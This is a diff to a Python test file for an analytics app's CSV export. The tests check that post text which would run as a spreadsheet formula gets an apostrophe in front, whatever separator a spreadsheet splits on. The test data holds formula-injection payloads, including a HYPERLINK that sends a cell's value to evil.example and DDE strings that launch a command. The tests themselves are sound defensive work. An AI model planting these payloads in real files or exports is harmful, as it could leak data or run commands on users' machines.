@@ -346,14 +346,18 @@ def test_the_csv_has_the_same_rows(api, known):
     assert float(slot["lift"]) == pytest.approx(answer["suggested_slots"][0]["lift"])
 
 
-DANGEROUS = [
-    '=HYPERLINK("https://evil.example/?"&A1, "Click")',
-    "+1+cmd|' /C calc'!A0",
-    "-2+3",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-]
+DANGEROUS = {  # a post's text: the cell the CSV holds
+    '=HYPERLINK("https://evil.example/?"&A1, "Click")': (
+        '\'=HYPERLINK("https://evil.example/?"&A1, "Click")'
+    ),
+    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
+    "-2+3": "'-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1": "'\t'=1+1",  # split on tabs, the second field is text too
+    "\r=1+1": "'\r'=1+1",
+    "Results;=2+3;": "Results;'=2+3;",  # split on ;
+    "a, @b\nand\n-c": "a, '@b\nand\n'-c",
+}  # with the two plain texts below, the top ten
 
 
 def test_cells_that_would_run_as_formulas_are_neutralised(api, clock):
@@ -370,16 +374,49 @@ def test_cells_that_would_run_as_formulas_are_neutralised(api, clock):
     cells = {row["post_id"]: row for row in rows if row["section"] == "top"}
     for post, text in zip(posts, texts, strict=True):
         found = cells[post["id"]]["content"]
-        if text in DANGEROUS:
-            assert found == "'" + text, (text, found)
-        else:
-            assert found == text
+        assert found == DANGEROUS.get(text, text), (text, found)
     assert {row["channel"] for row in rows if row["section"] != "top"} == {"'-acme"}
     assert all(row["channel"] == "'-acme" for row in rows if row["section"] == "top")
     # Nothing else in the file starts a formula.
     for row in rows:
         for value in row.values():
             assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
+
+
+SEPARATED = ["Results;=2+3;", "tab\t-1\tseparated", 'a "quoted" word', "two\nlines", "a;b", "a,b"]
+
+
+def test_a_spreadsheet_splitting_on_any_separator_reads_no_formula(api, clock):
+    """A cell with a separator, a quote or a line break is always quoted,
+    and read with `;`, tabs or commas as the separator, quotes honoured or
+    not, no field of the file starts a formula."""
+    posts = publish_at(
+        api,
+        clock,
+        [at(0, "mon", 8 + n) for n in range(len(SEPARATED))],
+        "acme",
+        content=lambda n, _: SEPARATED[n],
+    )
+    send(api, [snapshot(p, **figures(1000, 10 + n)) for n, p in enumerate(posts)])
+    r, rows = sheet(api, RANGE + "&channel=acme")
+    text = r.get_data(as_text=True)[1:]
+    contents = {row["post_id"]: row["content"] for row in rows if row["section"] == "top"}
+    assert contents[posts[0]["id"]] == "Results;'=2+3;"
+    assert contents[posts[1]["id"]] == "tab\t'-1\tseparated"
+    assert [contents[p["id"]] for p in posts[2:]] == SEPARATED[2:]
+    for post in posts:
+        assert f'"{post["id"]}"' not in text  # an id holds no separator: not quoted
+    for cell in SEPARATED[2:]:
+        assert '"' + cell.replace('"', '""') + '"' in text  # quoted, whatever its separator
+    for separator in (";", "\t", ","):
+        for reader in (csv.reader(io.StringIO(text, newline=""), delimiter=separator), None):
+            fields = (
+                [f for line in reader for f in line]
+                if reader
+                else [f for line in text.splitlines() for f in line.split(separator)]
+            )
+            starts = [f for f in fields if f.lstrip(' "').startswith(("=", "+", "-", "@"))]
+            assert not starts, (separator, starts[:3])
 
 
 def test_the_csv_file_name_is_ascii_whatever_the_channel(api):
